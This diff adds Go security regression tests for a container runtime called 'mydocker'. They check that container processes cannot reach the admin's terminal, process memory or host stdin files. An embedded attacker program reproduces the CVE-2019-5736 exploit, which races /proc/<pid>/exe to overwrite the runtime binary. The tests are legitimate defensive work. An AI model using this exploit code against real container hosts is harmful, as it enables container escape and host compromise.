@@ -1,0 +1,408 @@
+package tests
+
+import (
+	"context"
+	"crypto/sha256"
+	"encoding/json"
+	"fmt"
+	"io"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+)
+
+// ourProcessesIn lists, from the host, the processes that run the binary
+// bin (however it is mounted) or a memfd copy of it, and whose pid
+// namespace is the one of process pid: ours, visible from inside.
+func ourProcessesIn(t *testing.T, bin string, pid int) []string {
+	t.Helper()
+	binInfo, err := os.Stat(bin)
+	if err != nil {
+		t.Fatal(err)
+	}
+	target, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", pid))
+	if err != nil {
+		t.Fatal(err)
+	}
+	entries, err := os.ReadDir("/proc")
+	if err != nil {
+		t.Fatal(err)
+	}
+	var found []string
+	for _, en := range entries {
+		p, err := strconv.Atoi(en.Name())
+		if err != nil {
+			continue
+		}
+		ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", p))
+		if err != nil || ns != target {
+			continue // gone, or another namespace
+		}
+		exe := fmt.Sprintf("/proc/%d/exe", p)
+		link, _ := os.Readlink(exe)
+		info, err := os.Stat(exe)
+		if (err == nil && os.SameFile(info, binInfo)) || strings.Contains(link, "memfd:mydocker") {
+			cmdline, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", p))
+			found = append(found, fmt.Sprintf("pid %d (%s): %q", p, link, strings.ReplaceAll(string(cmdline), "\x00", " ")))
+		}
+	}
+	return found
+}
+
+func (e *env) containerPid(name string) int {
+	e.t.Helper()
+	pid, _ := e.state(name)["Pid"].(float64)
+	if pid <= 0 {
+		e.t.Fatalf("container %s has no pid", name)
+	}
+	return int(pid)
+}
+
+// running says whether container name exists and runs (without failing
+// the test when it does not exist yet).
+func (e *env) running(name string) bool {
+	r, err := e.exec(nil, "inspect", name)
+	var out []struct{ State struct{ Status string } }
+	if err != nil || r.code != 0 || json.Unmarshal([]byte(r.stdout), &out) != nil || len(out) != 1 {
+		return false
+	}
+	return out[0].State.Status == "running"
+}
+
+// While `exec -it` runs, container root looks at every process it can see
+// and tries what the old in-container relay allowed: its /proc/<pid>/fd/0
+// (the admin's terminal) and /proc/<pid>/mem (code injection into an
+// unconfined thread). Every process it sees must be one of the user's,
+// running the image's busybox, and nothing running mydocker may sit in
+// the container's pid namespace: the relay stays on the host.
+func TestExecTtyRelayUnreachable(t *testing.T) {
+	e := newEnv(t)
+	name := "relay-" + strconv.Itoa(os.Getpid())
+	e.ok("run", "-d", "--name", name, "busybox", "sleep", "1000")
+	pid := e.containerPid(name)
+	probe := `for d in /proc/[0-9]*; do
+	p=${d#/proc/}
+	[ "$p" = "$$" ] && continue
+	exe=$(readlink $d/exe 2>/dev/null) || exe=UNREADABLE
+	cmd=$(tr '\0' ' ' < $d/cmdline 2>/dev/null)
+	fd0=no; (exec 3<$d/fd/0) 2>/dev/null && fd0=yes
+	mem=no; (exec 3<$d/mem) 2>/dev/null && mem=yes
+	echo "$p|$exe|$fd0|$mem|$cmd"
+done`
+	var inside string
+	var ours []string
+	out, code := runInPtyFunc(t, e, func(master *os.File, shown func() string) {
+		waitFor(t, "exec -it session", func() bool { return strings.Contains(shown(), "SESSION-2") })
+		ours = ourProcessesIn(t, binary, pid)
+		r, err := e.exec(nil, "exec", name, "sh", "-c", probe)
+		if err != nil || r.code != 0 {
+			t.Errorf("probe: %v %d %s", err, r.code, r.stderr)
+		}
+		inside = r.stdout
+		master.WriteString("done\n") //nolint:errcheck // the session ends either way
+	}, "exec", "-it", name, "sh", "-c", "echo SESSION-$((1+1)); read x")
+	if code != 0 {
+		t.Fatalf("exec -it: exit %d, output %q", code, out)
+	}
+	if len(ours) > 0 {
+		t.Errorf("mydocker processes inside the container's pid namespace: %v", ours)
+	}
+	lines := strings.Split(strings.TrimSpace(inside), "\n")
+	if len(lines) < 2 {
+		t.Fatalf("probe saw too little: %q", inside)
+	}
+	for _, l := range lines {
+		f := strings.SplitN(l, "|", 5)
+		if len(f) != 5 {
+			t.Fatalf("probe line %q", l)
+		}
+		user := f[4] == "sleep 1000 " || strings.Contains(f[4], "SESSION-")
+		if f[1] != "/bin/busybox" || !user {
+			t.Errorf("container sees a process that is not the user's: %q", l)
+			if f[2] == "yes" || f[3] == "yes" {
+				t.Errorf("and opened its fd/0 or mem: %q", l)
+			}
+		}
+	}
+}
+
+// A host file given to exec as stdin must not reach the container: the
+// command could reopen it for writing through /proc/self/fd/0.
+func TestExecStdinIsNotHostFile(t *testing.T) {
+	e := newEnv(t)
+	name := "stdin-" + strconv.Itoa(os.Getpid())
+	e.ok("run", "-d", "--name", name, "busybox", "sleep", "1000")
+	victim := filepath.Join(t.TempDir(), "victim")
+	if err := os.WriteFile(victim, []byte("original\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	f, err := os.Open(victim)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
+	defer cancel()
+	c := e.cmd(ctx, "exec", name, "sh", "-c", "read line; echo \"read $line\"; echo pwned > /proc/self/fd/0 && echo wrote")
+	c.Stdin = f
+	got, err := c.Output()
+	if err != nil {
+		t.Fatalf("exec: %v", err)
+	}
+	if string(got) != "read original\nwrote\n" {
+		t.Fatalf("exec printed %q", got)
+	}
+	if data, err := os.ReadFile(victim); err != nil || string(data) != "original\n" {
+		t.Fatalf("host file given as stdin was changed from inside: %q %v", data, err)
+	}
+}
+
+// attackerSrc is built statically and run inside containers (from a
+// volume) to attack the mydocker binary through /proc/<pid>/exe.
+const attackerSrc = `package main
+
+import (
+	"fmt"
+	"os"
+	"strconv"
+	"strings"
+	"syscall"
+)
+
+const oPath = 0x200000 // O_PATH, which package syscall does not name
+
+func lastPid() int {
+	b, _ := os.ReadFile("/proc/sys/kernel/ns_last_pid")
+	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
+	return n
+}
+
+func same(fd int, path string) bool {
+	var a, b syscall.Stat_t
+	return syscall.Fstat(fd, &a) == nil && syscall.Stat(path, &b) == nil && a.Dev == b.Dev && a.Ino == b.Ino
+}
+
+// describe tries to write the file behind an O_PATH descriptor of some
+// /proc/<pid>/exe: reopened for writing, and written.
+func describe(fd int) string {
+	var st syscall.Statfs_t
+	rdonly := 0
+	if syscall.Fstatfs(fd, &st) == nil && st.Flags&1 != 0 { // ST_RDONLY
+		rdonly = 1
+	}
+	link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
+	w, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(fd), syscall.O_WRONLY, 0)
+	if err != nil {
+		return fmt.Sprintf("refused rdonly=%d link=%s err=%v", rdonly, link, err)
+	}
+	defer syscall.Close(w)
+	if _, err := syscall.Pwrite(w, []byte("PWNED"), 0); err != nil {
+		return fmt.Sprintf("refused rdonly=%d link=%s write-err=%v", rdonly, link, err)
+	}
+	return fmt.Sprintf("wrote rdonly=%d link=%s", rdonly, link)
+}
+
+func main() {
+	switch os.Args[1] {
+	case "probe-pid1":
+		fd, err := syscall.Open("/proc/1/exe", oPath, 0)
+		if err != nil {
+			fmt.Println("open-failed", err)
+			return
+		}
+		fmt.Println(describe(fd))
+	case "exec-race":
+		// CVE-2019-5736: the admin's "exec C sh" runs our /bin/sh, whose
+		// interpreter is whatever runs it: mydocker.
+		os.Remove("/bin/sh")
+		if err := os.WriteFile("/bin/sh", []byte("#!/proc/self/exe\n"), 0o755); err != nil {
+			panic(err)
+		}
+		start := lastPid() + 1
+		os.WriteFile("/shared/ready", nil, 0o644)
+		done := map[int]bool{os.Getpid(): true}
+		var held []int
+		var report []string
+		for i := 0; ; i++ {
+			if i%256 == 0 {
+				if _, err := os.Stat("/shared/stop"); err == nil {
+					break
+				}
+			}
+			last := lastPid()
+			lo := last - 16
+			if lo < start {
+				lo = start
+			}
+			for p := lo; p <= last+2; p++ {
+				if done[p] {
+					continue
+				}
+				fd, err := syscall.Open("/proc/"+strconv.Itoa(p)+"/exe", oPath, 0)
+				if err != nil {
+					continue
+				}
+				done[p] = true
+				if same(fd, "/bin/busybox") || same(fd, "/proc/self/exe") {
+					syscall.Close(fd)
+					continue
+				}
+				_, werr := syscall.Open("/proc/"+strconv.Itoa(p)+"/exe", syscall.O_RDWR, 0)
+				report = append(report, fmt.Sprintf("caught %d direct-open-err=%v", p, werr))
+				held = append(held, fd)
+				os.WriteFile("/shared/caught", nil, 0o644)
+			}
+		}
+		for _, fd := range held {
+			report = append(report, describe(fd))
+		}
+		os.WriteFile("/shared/report.tmp", []byte(strings.Join(report, "\n")+"\n"), 0o644)
+		os.Rename("/shared/report.tmp", "/shared/report")
+	}
+}
+`
+
+// buildAttacker compiles attackerSrc into dir/attacker.
+func buildAttacker(t *testing.T, dir string) {
+	t.Helper()
+	src := filepath.Join(t.TempDir(), "attacker.go")
+	if err := os.WriteFile(src, []byte(attackerSrc), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	c := exec.Command("go", "build", "-o", filepath.Join(dir, "attacker"), src)
+	c.Env = append(os.Environ(), "CGO_ENABLED=0", "GOFLAGS=-buildvcs=false")
+	if out, err := c.CombinedOutput(); err != nil {
+		t.Fatalf("build attacker: %v\n%s", err, out)
+	}
+}
+
+// copyBinary copies mydocker into a temp dir and returns its path and
+// sha256, so an attack that succeeds corrupts only the copy.
+func copyBinary(t *testing.T) (string, [32]byte) {
+	t.Helper()
+	data, err := os.ReadFile(binary)
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := filepath.Join(t.TempDir(), "mydocker")
+	if err := os.WriteFile(p, data, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	return p, sha256.Sum256(data)
+}
+
+func sha256File(t *testing.T, p string) [32]byte {
+	t.Helper()
+	f, err := os.Open(p)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	h := sha256.New()
+	if _, err := io.Copy(h, f); err != nil {
+		t.Fatal(err)
+	}
+	var sum [32]byte
+	copy(sum[:], h.Sum(nil))
+	return sum
+}
+
+// with runs a copy of mydocker bin on e's root.
+func (e *env) with(ctx context.Context, bin string, args ...string) *exec.Cmd {
+	c := exec.CommandContext(ctx, bin, args...)
+	c.Env = append(os.Environ(), "MYDOCKER_ROOT="+e.root)
+	c.WaitDelay = 5 * time.Second
+	return c
+}
+
+// CVE-2019-5736 through exec: the container replaces /bin/sh with
+// "#!/proc/self/exe" and watches every new pid; when the admin runs
+// `mydocker exec C sh`, it holds /proc/<pid>/exe of each process that is
+// not its own and, once they have exited, reopens them for writing.
+func TestExecCannotOverwriteBinary(t *testing.T) {
+	e := newEnv(t)
+	bin, before := copyBinary(t)
+	shared := t.TempDir()
+	buildAttacker(t, shared)
+	ctx, cancel := context.WithTimeout(context.Background(), 120*time.Second)
+	defer cancel()
+	name := "cve-" + strconv.Itoa(os.Getpid())
+	// The container's monitor runs the build's binary: the copy is busy
+	// only while the exec under attack runs.
+	e.ok("run", "-d", "--name", name, "-v", shared+":/shared", "busybox", "/shared/attacker", "exec-race")
+	waitFor(t, "attacker ready", func() bool { _, err := os.Stat(filepath.Join(shared, "ready")); return err == nil })
+	caught := func() bool { _, err := os.Stat(filepath.Join(shared, "caught")); return err == nil }
+	// The attacker polls: it may miss a short-lived process, so the admin
+	// "retries" until it has caught one (what a patient attacker waits for).
+	for i := 0; i < 50 && !caught(); i++ {
+		e.with(ctx, bin, "exec", name, "sh").Run() //nolint:errcheck // mydocker, run as sh, fails
+	}
+	if err := os.WriteFile(filepath.Join(shared, "stop"), nil, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	waitFor(t, "attacker report", func() bool { _, err := os.Stat(filepath.Join(shared, "report")); return err == nil })
+	report, err := os.ReadFile(filepath.Join(shared, "report"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Logf("attacker report:\n%s", report)
+	if after := sha256File(t, bin); after != before {
+		t.Fatalf("the container modified the mydocker binary (sha256 %x, was %x)", after, before)
+	}
+	if !caught() {
+		t.Fatal("the attacker never caught a mydocker process: the test did not exercise the attack")
+	}
+	for _, l := range strings.Split(strings.TrimSpace(string(report)), "\n") {
+		if strings.HasPrefix(l, "wrote") || (strings.HasPrefix(l, "caught") && strings.HasSuffix(l, "err=<nil>")) {
+			t.Errorf("a write to mydocker's executable succeeded: %s", l)
+		}
+	}
+}
+
+// The same through run: the container's pid 1 is mydocker itself (its
+// command is a "#!/proc/self/exe nsexec" script, held reading stdin),
+// and an exec'd process looks at /proc/1/exe: it must be a file on a
+// read-only mount (or a sealed copy) that refuses every write.
+func TestRunInitCannotOverwriteBinary(t *testing.T) {
+	e := newEnv(t)
+	bin, before := copyBinary(t)
+	shared := t.TempDir()
+	buildAttacker(t, shared)
+	if err := os.WriteFile(filepath.Join(shared, "evil"), []byte("#!/proc/self/exe nsexec\n"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	name := "cve-run-" + strconv.Itoa(os.Getpid())
+	inR, inW, err := os.Pipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer inW.Close()
+	// An image's ENV can set anything; this makes pid 1 read its "exec
+	// config" from stdin, so it stays mydocker for as long as we like.
+	run := e.with(ctx, bin, "run", "-i", "--name", name, "-e", "_MYDOCKER_EXEC_CONFIG_FD=0", "-v", shared+":/shared", "busybox", "/shared/evil")
+	run.Stdin = inR
+	if err := run.Start(); err != nil {
+		t.Fatal(err)
+	}
+	inR.Close()
+	waitFor(t, "container running", func() bool { return e.running(name) })
+	out, err := e.with(ctx, bin, "exec", name, "/shared/attacker", "probe-pid1").CombinedOutput()
+	inW.Close()
+	run.Wait() //nolint:errcheck // pid 1 fails on the end of its "config"
+	if err != nil {
+		t.Fatalf("probe: %v %s", err, out)
+	}
+	got := strings.TrimSpace(string(out))
+	if !strings.HasPrefix(got, "refused rdonly=1 ") && !strings.Contains(got, "memfd:mydocker") {
+		t.Errorf("/proc/1/exe of a mydocker pid 1 is writable or on a writable mount: %q", got)
+	}
+	if after := sha256File(t, bin); after != before {
+		t.Fatalf("the container modified the mydocker binary")
+	}
+}
